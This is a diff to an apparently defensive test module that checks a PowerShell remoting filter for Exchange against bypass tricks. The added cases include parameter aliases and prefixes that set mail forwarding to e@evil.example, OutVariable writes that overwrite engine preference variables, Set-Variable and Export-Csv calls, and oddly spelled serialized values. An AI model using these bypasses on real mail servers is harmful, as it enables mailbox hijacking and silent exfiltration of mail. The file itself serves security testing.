@@ -5,7 +5,7 @@ import uuid
 import wsman
 from wsman import argument, command, flag, items, properties, statements, text
 
-from . import HARMLESS, MARK, MARKED, NO, REMOVE, Stage, Trick, pipeline, whole
+from . import HARMLESS, MARK, MARKED, NO, REMOVE, Stage, Taught, Trick, has_arrived, pipeline, whole
 
 OWN = command("Get-ElevatedAccessRequest")
 CONFIRM = argument("Confirm", NO)
@@ -77,8 +77,27 @@ def valued(value: str):
     return started(pipeline(command("Get-Mailbox", argument("Identity", value))))
 
 
+def into(name: str, variable: str):
+    """What comes out is put into a variable."""
+    return started(pipeline(command("Get-Mailbox", argument("Identity", "x"), argument(name, variable))))
+
+
+def wrote_elsewhere(stage: Stage) -> bool:
+    return any(it["params"].get("OutVariable", "mine") != "mine" for it in stage.journal)
+
+
+def spelled(value: str):
+    """A value in a spelling of its own, which the server would show otherwise."""
+    where = value.replace(">", ' N="V">', 1)
+    name = f"a value in another spelling: {value}"
+    run = started(pipeline(command("Get-Mailbox", argument("Identity", "x"), argument("Filter", where))))
+    return Trick(name, run, worked=lambda stage: has_arrived(stage, where))
+
+
+INTO_MINE = honest(command("Get-Mailbox", argument("Identity", "x"), argument("OutVariable", "mine")))
 WITH_RULE = honest(command("Set-Mailbox", argument("Identity", "x"), argument("CustomAttribute1", "y")))
 PLAIN_SCRIPT = honest(command("Get-Mailbox -Identity 'x'", script=True))
+WITHOUT_OTHERS = honest(command("Set-Mailbox", argument("Identity", "x")))
 FORWARD = "ForwardingSmtpAddress"
 MAILBOX = "<TN RefId=\"990\"><T>Deserialized.Microsoft.Exchange.Data.Directory.Management.Mailbox</T></TN>"
 
@@ -138,6 +157,8 @@ NAMES = [
     Trick("the call operator", script("& 'Remove-Mailbox' -Identity x -Confirm:$false")),
     Trick("a cmdlet that runs text", started(pipeline(command("Invoke-Expression", argument("Command", f"Get-Mailbox {MARK}"))))),
     Trick("an alias of a cmdlet that runs text", started(pipeline(command("iex", argument(None, f"Get-Mailbox {MARK}"))))),
+    Trick("a cmdlet that sets variables", started(pipeline(command("Set-Variable", argument("Name", "PSDefaultParameterValues"), argument("Value", MARK))))),
+    Trick("a cmdlet that writes files", started(pipeline(command("Export-Csv", argument("Path", MARK), argument("InputObject", "x"))))),
     Trick("what a common client does with scripts", started(pipeline(command("Invoke-Expression", argument("Command", f"Get-Mailbox {MARK}")), command("Out-String", argument("Stream", None))))),
 ]
 
@@ -152,6 +173,18 @@ PARAMETERS = [
     Trick("a hyphen, a colon and a blank", forwarding(argument(f"-{FORWARD}: ", "e@evil.example")), control=WITH_RULE),
     Trick("an en dash", forwarding(argument("–" + FORWARD, "e@evil.example")), control=WITH_RULE),
     Trick("a horizontal bar", forwarding(argument("―" + FORWARD, "e@evil.example")), control=WITH_RULE),
+    Trick("an alias of it", forwarding(argument("ForwardTo", "e@evil.example")), control=WITH_RULE),
+    Trick("an alias of it after a restart", forwarding(argument("ForwardTo", "e@evil.example")), control=WITHOUT_OTHERS, taught=Taught.NOTHING),
+    Trick("an alias of it after a shorter list", forwarding(argument("ForwardTo", "e@evil.example")), control=WITH_RULE, taught=Taught.LESS),
+    Trick("the beginning of an alias after a restart", forwarding(argument("ForwardT", "e@evil.example")), control=WITHOUT_OTHERS, taught=Taught.NOTHING),
+    Trick("the beginning of an alias after a shorter list", forwarding(argument("ForwardT", "e@evil.example")), control=WITH_RULE, taught=Taught.LESS),
+    Trick("an alias and the value behind it, after a restart", forwarding(argument("-ForwardTo", None), argument(None, "e@evil.example")), control=WITHOUT_OTHERS, taught=Taught.NOTHING),
+    Trick("an alias in a script, after a restart", script("Set-Mailbox -Identity x -ForwardTo e@evil.example"), control=WITHOUT_OTHERS, taught=Taught.NOTHING),
+    Trick("a variable of the engine", into("OutVariable", "PSDefaultParameterValues"), worked=wrote_elsewhere, control=INTO_MINE),
+    Trick("a variable of the engine, added to", into("OutVariable", "+ErrorActionPreference"), worked=wrote_elsewhere, control=INTO_MINE),
+    Trick("a variable of the engine by an alias", into("-ov:", "ConfirmPreference"), worked=wrote_elsewhere, control=INTO_MINE),
+    Trick("a variable of the engine by the beginning of a name", into("OutV", "WhatIfPreference"), worked=wrote_elsewhere, control=INTO_MINE),
+    Trick("a variable that is a function", into("OutVariable", "function:Get-Mailbox"), worked=wrote_elsewhere, control=INTO_MINE),
     Trick("two hyphens", forwarding(argument("--" + FORWARD, "e@evil.example")), fools=False, control=WITH_RULE),
     Trick("escapes in the name", forwarding(argument("_x0046_orwardingSmtpAddress", "e@evil.example")), control=WITH_RULE),
     Trick("behind a switch that takes no value", forwarding(argument("-Force", None), argument(FORWARD, "e@evil.example")), control=WITH_RULE),
@@ -201,6 +234,13 @@ VALUES = [
     Trick("two values in one object", valued(f'<Obj N="V"><S>x</S><S>{MARK}</S></Obj>')),
     Trick("an object that is a text and a list", valued(f'<Obj N="V"><S>{MARK}</S><LST><S>{MARK}</S></LST></Obj>')),
     Trick("an attribute twice in other case", started(pipeline().replace('<S N="V">x</S>', f'<S n="W" N="V">{MARK}</S>'))),
+    *(
+        spelled(it)
+        for it in (
+            "<Version>010.0</Version>", "<URI>https://a.example/%40</URI>", "<Db>INF</Db>", "<Db>1E2</Db>", "<Db>007</Db>",
+            "<Sg>NaN</Sg>", "<D>007.5</D>", "<DT>2026-11-21T10:00:00.5000000Z</DT>", "<TS>PT3600S</TS>",
+        )
+    ),
     Trick("a dot-sourced command", started(changed('<Nil N="UseLocalScope" />', flag("UseLocalScope", False), REMOVE))),
 ]
 
